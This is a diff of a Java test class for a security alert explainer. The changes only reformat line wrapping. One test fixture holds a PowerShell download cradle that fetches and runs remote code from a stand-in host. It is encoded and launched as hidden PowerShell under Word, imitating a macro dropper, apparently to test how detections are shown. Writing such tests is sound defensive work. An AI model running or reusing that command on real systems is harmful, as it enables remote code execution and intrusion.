@@ -66,7 +66,11 @@ class ExplainerTest {
         String command = "IEX (New-Object Net.WebClient).DownloadString('https://docs-corp.example/w02')";
         String encoded = Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
         String raw = process(
-                "{1}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -W Hidden -enc " + encoded, "{0}", "C:\\WINWORD.EXE");
+                "{1}",
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "powershell.exe -NoP -W Hidden -enc " + encoded,
+                "{0}",
+                "C:\\WINWORD.EXE");
 
         TelemetryView shown =
                 EXPLAINER.explain(alert, List.of(record(1, raw))).telemetry().getFirst();
@@ -83,7 +87,11 @@ class ExplainerTest {
     void whatWasStoredWithTheMatchStands() {
         List<BecauseView> stored = List.of(BecauseView.of(new Because("s", "F", "contains", "x", "axb")));
         TelemetryView view = TelemetryView.legible("s/1/1", START, "{\"F\":\"other\"}", stored);
-        assertThat(EXPLAINER.explain(alert("No Such Rule"), List.of(view)).telemetry().getFirst().because())
+        assertThat(EXPLAINER
+                        .explain(alert("No Such Rule"), List.of(view))
+                        .telemetry()
+                        .getFirst()
+                        .because())
                 .isEqualTo(stored);
     }
 
@@ -116,7 +124,8 @@ class ExplainerTest {
         assertThat(counted.groups().stream().mapToLong(CountedView.Group::count).sum())
                 .isEqualTo(13);
         assertThat(counted.groups().getFirst().title()).isNotNull();
-        assertThat(counted.groups().getFirst().firstSeen()).isBefore(counted.groups().getFirst().lastSeen());
+        assertThat(counted.groups().getFirst().firstSeen())
+                .isBefore(counted.groups().getFirst().lastSeen());
     }
 
     @Test
@@ -151,14 +160,14 @@ class ExplainerTest {
                 record(2, process("{B}", "C:\\b.exe", "b", "{A}", "C:\\a.exe")),
                 record(3, process("{S}", "C:\\s.exe", "s", "{S}", "C:\\s.exe"))));
         for (int i = 0; i < 2_000; i++) {
-            records.add(record(
-                    10 + i, process("{L" + (i + 1) + "}", "C:\\l.exe", "l", "{L" + i + "}", "C:\\l.exe")));
+            records.add(record(10 + i, process("{L" + (i + 1) + "}", "C:\\l.exe", "l", "{L" + i + "}", "C:\\l.exe")));
         }
 
-        List<ProcessView.OfAsset> trees =
-                Explainer.processes(List.of(EXPLAINER.explain(alert, records)));
+        List<ProcessView.OfAsset> trees = Explainer.processes(List.of(EXPLAINER.explain(alert, records)));
 
-        assertThat(trees.getFirst().processes().stream().mapToInt(ExplainerTest::size).sum())
+        assertThat(trees.getFirst().processes().stream()
+                        .mapToInt(ExplainerTest::size)
+                        .sum())
                 .isLessThanOrEqualTo(ProcessForest.MOST);
         assertThat(trees.getFirst().processes())
                 .allSatisfy(tree -> assertThat(height(tree)).isLessThanOrEqualTo(ProcessForest.DEEPEST + 1));
@@ -169,6 +178,10 @@ class ExplainerTest {
     }
 
     private static int height(ProcessView process) {
-        return 1 + process.children().stream().mapToInt(ExplainerTest::height).max().orElse(0);
+        return 1
+                + process.children().stream()
+                        .mapToInt(ExplainerTest::height)
+                        .max()
+                        .orElse(0);
     }
 }
